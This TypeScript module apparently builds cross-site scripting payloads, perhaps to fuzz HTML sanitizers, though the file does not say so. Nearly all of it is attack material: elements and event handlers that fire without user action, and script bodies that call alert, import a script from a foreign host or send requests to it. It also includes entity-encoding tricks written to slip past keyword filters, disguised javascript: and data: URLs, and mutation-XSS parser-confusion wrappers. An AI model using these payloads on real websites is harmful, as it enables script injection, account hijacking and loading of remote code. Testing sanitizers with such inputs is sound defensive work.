/** Elements of generated attacks (markup.ts). */
import { FOREIGN } from './markup-classes.ts'

const words = (text: string): readonly string[] => text.split(/\s+/).filter(Boolean)

/** Elements, and ways to make their handlers fire by themselves. */
export const elements: readonly (readonly [name: string, more: string])[] = [
  ['img', 'src=x'],
  ['img', 'src=x:'],
  ['image', 'src=x'],
  ['input', 'autofocus'],
  ['input', 'type=image src=x'],
  ['select', 'autofocus'],
  ['textarea', 'autofocus'],
  ['button', 'autofocus'],
  ['keygen', 'autofocus'],
  ['video', 'src=x'],
  ['video', 'autoplay controls><source'],
  ['audio', 'src=x'],
  ['details', 'open'],
  ['dialog', 'open'],
  ['iframe', 'src=about:blank'],
  ['object', 'data=x'],
  ['embed', 'src=x'],
  ['link', `rel=stylesheet href=${FOREIGN}/a.css`],
  ['style', 'a'],
  ['script', 'src=x'],
  ['body', ''],
  ['html', ''],
  ['frameset', ''],
  ['marquee', 'loop=1 width=0'],
  ['form', 'id=f'],
  ['a', 'href=# tabindex=1 autofocus'],
  ['p', 'contenteditable autofocus'],
  ['div', 'tabindex=1 autofocus style=display:block'],
  ['td', 'tabindex=0'],
  ['xss', 'id=x tabindex=1 autofocus'],
  ['x-y', 'style=animation-name:x'],
  ['meter', ''],
  ['track', 'src=x'],
  ['source', 'srcset=x'],
  ['svg', ''],
  ['svg><image', 'href=x'],
  ['svg><animate', 'attributeName=x dur=1s'],
  ['svg><set', 'attributeName=x dur=1s'],
  ['svg><a', 'xlink:href=#'],
  ['svg><style', 'a'],
  ['math', 'href=#'],
  ['math><mtext', ''],
  ['table', `background=${FOREIGN}/t`],
  ['isindex', 'type=image src=x'],
]

export const handlers = words(`
  onerror onload onfocus onfocusin onblur ontoggle onbeforetoggle onanimationstart onanimationend onanimationiteration
  ontransitionrun ontransitionend onpageshow onhashchange onpopstate onresize onscroll onscrollend onloadstart onloadend
  oncanplay onprogress onsuspend onwaiting onstalled onemptied oncuechange ondurationchange onbegin onend onrepeat
  onstart onfinish onbounce onclick ondblclick onauxclick oncontextmenu onmouseover onmouseenter onmousemove onmousedown
  onpointerover onpointerenter onpointermove onpointerdown onpointerrawupdate ontouchstart onwheel onkeydown oninput
  onchange oninvalid onreset onsubmit onselect onselectstart onselectionchange oncut oncopy onpaste onbeforecopy ondrag
  ondrop onmessage onstorage onunload onbeforeunload onafterprint onsecuritypolicyviolation onslotchange
  oncontentvisibilityautostatechange onbeforematch onformdata onwebkitanimationstart onsnapchanged`)

/** The script, with its index in the list. */
export const programs: readonly ((place: number) => string)[] = [
  (n) => `alert(${n})`,
  (n) => `alert(${n})`,
  (n) => `alert\`${n}\``,
  (n) => `top.alert(${n})`,
  (n) => `self['al'+'ert'](${n})`,
  (n) => `eval('alert(${n})')`,
  (n) => `setTimeout('alert(${n})')`,
  (n) => `Function('alert(${n})')()`,
  (n) => `[${n}].map(alert)`,
  (n) => `\\u0061lert(${n})`,
  (n) => `import('${FOREIGN}/${n}.js')`,
  (n) => `fetch('${FOREIGN}/${n}')`,
  (n) => `new Image().src='${FOREIGN}/${n}'`,
  (n) => `throw onerror=alert,${n}`,
]

export const separators = [' ', ' ', '/', '\t', '\n', '\f', '\r', ' / ', '//', '\u00a0 ', ' x="" ', " '' "] as const

export const quotings: readonly ((text: string) => string)[] = [
  (t) => `"${t.replaceAll('"', '&quot;')}"`,
  (t) => `'${t.replaceAll("'", '&#39;')}'`,
  (t) => t.replace(/\s/g, '&#32;').replaceAll('>', '&gt;'),
  (t) => `\`${t}\``,
  (t) => `"${t}`,
]

const entity = (form: (code: number) => string) => (text: string) =>
  [...text].map((letter) => (/[a-z:(]/i.test(letter) ? form(letter.codePointAt(0) ?? 0) : letter)).join('')

/** Obfuscations: equivalent for a browser, different for a filter that looks for words. */
export const hidings: readonly ((text: string) => string)[] = [
  (t) => t,
  (t) => t,
  (t) => t,
  entity((code) => `&#${code};`),
  entity((code) => `&#x${code.toString(16)};`),
  entity((code) => `&#${String(code).padStart(7, '0')}`),
  (t) => t.replace(':', '&colon;').replace('(', '&lpar;').replace(')', '&rpar;'),
  (t) => t.replace('s', '&#9;s').replace('c', '&Tab;c'),
  (t) => t.replace('r', 'r\n'),
]

export const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\u0001javascript:',
  'java\tscript:',
  'java\nscript:',
  'javascript\t:',
  'javascript://%0a',
  'javascript:/**/',
  'vbscript:',
  'data:text/javascript,',
  'feed:javascript:',
  'view-source:javascript:',
  'jar:javascript:',
  'about:blank#javascript:',
] as const

export const addresses = [
  `${FOREIGN}/a`,
  `//${new URL(FOREIGN).host}/b`,
  `\\\\${new URL(FOREIGN).host}\\c`,
  `/\\${new URL(FOREIGN).host}/d`,
  `https:${new URL(FOREIGN).host}`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  `1;url=${FOREIGN}/m`,
] as const

export const addressed: readonly (readonly [element: string, attribute: string])[] = [
  ['a', 'href'],
  ['a', 'xlink:href'],
  ['a', 'ping'],
  ['area', 'href'],
  ['form', 'action'],
  ['form><button', 'formaction'],
  ['form><input type=submit', 'formaction'],
  ['iframe', 'src'],
  ['iframe', 'srcdoc'],
  ['frame', 'src'],
  ['embed', 'src'],
  ['object', 'data'],
  ['applet', 'code'],
  ['base', 'href'],
  ['link rel=stylesheet', 'href'],
  ['link rel=manifest', 'href'],
  ['link rel=prefetch', 'href'],
  ['link rel=modulepreload', 'href'],
  ['meta http-equiv=refresh', 'content'],
  ['img', 'src'],
  ['img', 'srcset'],
  ['img', 'lowsrc'],
  ['picture><source', 'srcset'],
  ['video', 'poster'],
  ['video', 'src'],
  ['audio autoplay', 'src'],
  ['track default', 'src'],
  ['input type=image', 'src'],
  ['body', 'background'],
  ['td', 'background'],
  ['blockquote', 'cite'],
  ['svg><a', 'href'],
  ['svg><image', 'xlink:href'],
  ['svg><use', 'href'],
  ['svg><feImage', 'href'],
  ['svg><animate attributeName=href', 'values'],
  ['svg><set attributeName=href', 'to'],
  ['math', 'href'],
  ['math><maction actiontype=statusline', 'xlink:href'],
  ['p', 'style'],
]

/** Contexts around an attack that a parser reads differently from a person. */
export const frames: readonly ((core: string) => string)[] = [
  (c) => c,
  (c) => c,
  (c) => c,
  (c) => `"><${c}`,
  (c) => `">${c}`,
  (c) => `'>${c}`,
  (c) => `</p>${c}<p>`,
  (c) => `<!--${c}-->`,
  (c) => `<!-->${c}-->`,
  (c) => `<!--->${c}<!---->`,
  (c) => `<!--><!--${c}`,
  (c) => `<![CDATA[${c}]]>`,
  (c) => `<?xml ${c}?>`,
  (c) => `<!DOCTYPE ${c}>`,
  (c) => `</ ${c}>${c}`,
  ...['title', 'textarea', 'noscript', 'style', 'xmp', 'iframe', 'noembed', 'noframes', 'script', 'plaintext'].flatMap(
    (raw) => [
      (c: string) => `<${raw}>${c}</${raw}>`,
      (c: string) => `<${raw}></${raw} >${c}`,
      (c: string) => `<${raw}><p title="</${raw}>${c}">`,
      (c: string) => `<svg><${raw}><p id="</${raw}>${c}">`,
    ],
  ),
  (c) => `<template>${c}</template>`,
  (c) => `<select><option>${c}</select>`,
  (c) => `<table><tr>${c}<td>`,
  (c) => `<table><caption><math><mtext>${c}`,
  (c) => `<svg>${c}</svg>`,
  (c) => `<svg><desc>${c}`,
  (c) => `<svg><foreignObject>${c}`,
  (c) => `<svg></p><style><a id="</style>${c}">`,
  (c) => `<math><mi>${c}</math>`,
  (c) => `<math><annotation-xml encoding="text/html">${c}`,
  (c) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${c.replaceAll('<', '&lt;')}">`,
  (c) => `<form><math><mtext></form><form><mglyph><style></math>${c}`,
  (c) => `<math><mtext><mglyph><svg><mtext><textarea><a title="</textarea>${c}">`,
  (c) => `<noscript><p title="</noscript>${c}">`,
  (c) => `<a title="${c}">x</a>`,
  (c) => `<p title='${c}'>x</p>`,
  (c) => `<img alt="${c}" src=x>`,
  (c) => `<b><i><u>${c}</b></i></u>`,
  (c) => `<a><p><a>${c}`,
  (c) => '<div>'.repeat(600) + c,
  (c) => c.replace('<', '&lt;').replace('>', '&gt;'),
  (c) => c.replace('<', '<\u0000'),
  (c) => c.replace('<', '<<'),
  (c) => c.replaceAll('<', '\uff1c'),
  (c) => c.replace('s', '\u017f'),
]
